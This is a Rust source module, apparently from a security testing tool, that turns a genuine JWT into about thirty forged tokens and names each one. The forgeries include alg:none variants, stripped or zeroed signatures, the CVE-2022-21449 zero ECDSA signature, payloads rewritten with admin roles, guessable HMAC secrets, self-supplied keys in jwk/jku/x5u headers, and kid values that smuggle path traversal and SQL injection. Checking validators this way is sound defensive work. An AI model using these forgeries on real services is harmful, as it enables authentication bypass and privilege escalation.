//! Forged tokens: everything that can be made of a genuine JWT without its key.
//!
//! Each is a mistake that validators made: `alg: none`, another algorithm with a key that the attacker knows, keys that
//! the token itself brings along, signatures that are there but not looked at.

use aws_lc_rs::rand::SystemRandom;
use aws_lc_rs::rsa::{KeyPair, KeySize};
use aws_lc_rs::signature::{KeyPair as _, RSA_PKCS1_SHA256};
use aws_lc_rs::{error::Unspecified, hmac};
use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use serde_json::{Map, Value, json};

use super::Unfit;

impl From<Unspecified> for Unfit {
    fn from(_: Unspecified) -> Self {
        Self::Forgery
    }
}

/// A JWT, taken apart.
struct Genuine<'a> {
    header: Map<String, Value>,
    payload: Map<String, Value>,
    segments: [&'a str; 3],
}

impl<'a> Genuine<'a> {
    fn read(token: &'a str) -> Option<Self> {
        let mut parts = token.split('.');
        let segments = [parts.next()?, parts.next()?, parts.next()?];
        let object = |segment: &str| serde_json::from_slice(&URL_SAFE_NO_PAD.decode(segment).ok()?).ok();
        let [header, payload, _] = segments;
        Some(Self { header: object(header)?, payload: object(payload)?, segments })
    }

    /// Its header with other members; `null` takes one away.
    fn header(&self, changes: &Value) -> String {
        let mut header = self.header.clone();
        for (name, value) in changes.as_object().into_iter().flatten() {
            if value.is_null() {
                header.remove(name);
            } else {
                header.insert(name.clone(), value.clone());
            }
        }
        encoded(&Value::Object(header))
    }

    /// Header and payload, the header with other members.
    fn unsigned(&self, changes: &Value) -> String {
        let [_, payload, _] = self.segments;
        format!("{}.{payload}", self.header(changes))
    }
}

fn encoded(value: &Value) -> String {
    URL_SAFE_NO_PAD.encode(value.to_string())
}

/// Whether it is something to forge from.
pub(super) fn is_jwt(token: &str) -> bool {
    Genuine::read(token).is_some()
}

/// The name of each forgery, and the token.
pub(super) fn from(token: &str) -> Result<Vec<(String, String)>, Unfit> {
    let named = |(name, token): (&str, String)| (name.to_owned(), token);
    let Some(genuine) = Genuine::read(token) else {
        let half = token.len() / 2;
        let cut = token.get(..half).unwrap_or_default().to_owned();
        let opaque = [("longer", format!("{token}x")), ("cut", cut), ("upper-case", token.to_uppercase())];
        let others = opaque.into_iter().filter(|(_, forged)| forged != token);
        return Ok(others.map(named).collect());
    };
    let mut all = unsigned(&genuine);
    all.extend(tampered(&genuine));
    all.extend(with_known_secrets(&genuine));
    all.extend(with_own_key(&genuine)?);
    Ok(all.into_iter().map(named).collect())
}

/// No signature, or one that is not looked at.
fn unsigned(genuine: &Genuine<'_>) -> Vec<(&'static str, String)> {
    let [header, payload, signature] = genuine.segments;
    let none = |spelling: &str| format!("{}.", genuine.unsigned(&json!({"alg": spelling})));
    vec![
        ("alg-none", none("none")),
        ("alg-None", none("None")),
        ("alg-NONE", none("NONE")),
        ("alg-nOnE", none("nOnE")),
        ("alg-empty", none("")),
        ("alg-missing", format!("{}.", genuine.unsigned(&json!({"alg": null})))),
        ("alg-none-but-signed", format!("{}.{signature}", genuine.unsigned(&json!({"alg": "none"})))),
        ("signature-missing", format!("{header}.{payload}.")),
        ("signature-and-dot-missing", format!("{header}.{payload}")),
        ("signature-zero", format!("{header}.{payload}.{}", URL_SAFE_NO_PAD.encode([0; 256]))),
        // CVE-2022-21449: r and s of 0 once were a signature of everything
        ("ecdsa-zero", format!("{}.{}", genuine.unsigned(&json!({"alg": "ES256"})), URL_SAFE_NO_PAD.encode([0; 64]))),
        ("encrypted", format!("{header}.{payload}.{signature}.{signature}.{signature}")),
        ("fourth-segment", format!("{header}.{payload}.{signature}.{signature}")),
    ]
}

/// A genuine signature of something else.
fn tampered(genuine: &Genuine<'_>) -> Vec<(&'static str, String)> {
    let [header, payload, signature] = genuine.segments;
    let mut claims = genuine.payload.clone();
    claims.insert("exp".into(), json!(4_102_444_800_u64));
    claims.insert("roles".into(), json!(["Admin", "admin", "*"]));
    let changed = encoded(&Value::Object(claims));
    let mut bytes = URL_SAFE_NO_PAD.decode(signature).unwrap_or_default();
    if let Some(first) = bytes.first_mut() {
        *first ^= 1;
    }
    vec![
        ("payload-changed", format!("{header}.{changed}.{signature}")),
        ("signature-changed", format!("{header}.{payload}.{}", URL_SAFE_NO_PAD.encode(bytes))),
        ("payload-twice", format!("{header}.{payload}{payload}.{signature}")),
        ("kid-unknown", format!("{}.{signature}", genuine.unsigned(&json!({"kid": "nobody-has-this-key"})))),
        ("kid-missing", format!("{}.{signature}", genuine.unsigned(&json!({"kid": null, "x5t": null})))),
    ]
}

/// HMAC with secrets that anybody can guess: the key confusion of RFC 8725 §2.1.
fn with_known_secrets(genuine: &Genuine<'_>) -> Vec<(&'static str, String)> {
    let signed = |secret: &[u8], changes: &Value| {
        let message = genuine.unsigned(changes);
        let tag = hmac::sign(&hmac::Key::new(hmac::HMAC_SHA256, secret), message.as_bytes());
        format!("{message}.{}", URL_SAFE_NO_PAD.encode(tag))
    };
    let hs256 = json!({"alg": "HS256"});
    let kid = genuine.header.get("kid").and_then(Value::as_str).unwrap_or_default();
    vec![
        ("hmac-empty", signed(b"", &hs256)),
        ("hmac-secret", signed(b"secret", &hs256)),
        ("hmac-kid", signed(kid.as_bytes(), &hs256)),
        ("hmac-null-file", signed(b"", &json!({"alg": "HS256", "kid": "../../../../dev/null"}))),
        ("hmac-sql", signed(b"x", &json!({"alg": "HS256", "kid": "' UNION SELECT 'x' -- "}))),
    ]
}

/// Signed by a key of one's own, which the token brings along in various ways.
fn with_own_key(genuine: &Genuine<'_>) -> Result<Vec<(&'static str, String)>, Unfit> {
    let pair = KeyPair::generate(KeySize::Rsa2048)?;
    let jwk = json!({"kty": "RSA", "use": "sig", "alg": "RS256", "n": modulus(&pair), "e": "AQAB", "kid": "own"});
    let ways = [
        ("own-key", json!({})),
        ("own-key-jwk", json!({"jwk": jwk, "kid": "own"})),
        ("own-key-jku", json!({"jku": "http://127.0.0.1:1/keys", "kid": "own"})),
        ("own-key-x5u", json!({"x5u": "http://127.0.0.1:1/certificate", "kid": "own"})),
        ("own-key-x5c", json!({"x5c": ["MAA="], "kid": null})),
        ("own-key-crit", json!({"crit": ["exp"], "b64": false})),
    ];
    let mut forged = Vec::new();
    for (name, changes) in ways {
        let message = genuine.unsigned(&changes);
        let mut signature = vec![0; pair.public_modulus_len()];
        pair.sign(&RSA_PKCS1_SHA256, &SystemRandom::new(), message.as_bytes(), &mut signature)?;
        forged.push((name, format!("{message}.{}", URL_SAFE_NO_PAD.encode(signature))));
    }
    Ok(forged)
}

/// The modulus of a key of 2048 bits: what follows the first headers of its PKCS #1 encoding (RFC 8017 A.1.1).
fn modulus(pair: &KeyPair) -> String {
    URL_SAFE_NO_PAD.encode(pair.public_key().as_ref().get(9..265).unwrap_or_default())
}

#[cfg(test)]
mod tests {
    use base64::Engine as _;
    use base64::engine::general_purpose::URL_SAFE_NO_PAD;

    #[test]
    fn no_forgery_is_the_genuine_token() {
        let part = |text: &str| URL_SAFE_NO_PAD.encode(text);
        let token = format!("{}.{}.{}", part(r#"{"alg":"RS256","kid":"a"}"#), part(r#"{"exp":1}"#), part("signature"));
        let forged = super::from(&token).unwrap();
        assert!(forged.len() > 25 && forged.iter().all(|(_, forged)| *forged != token));
        let mut names: Vec<_> = forged.iter().map(|(name, _)| name).collect();
        names.sort();
        names.dedup();
        assert_eq!(names.len(), forged.len());
    }

    #[test]
    fn opaque_tokens_are_spoilt() {
        let forged = super::from("abcdef").unwrap();
        assert_eq!(forged.len(), 3);
    }
}
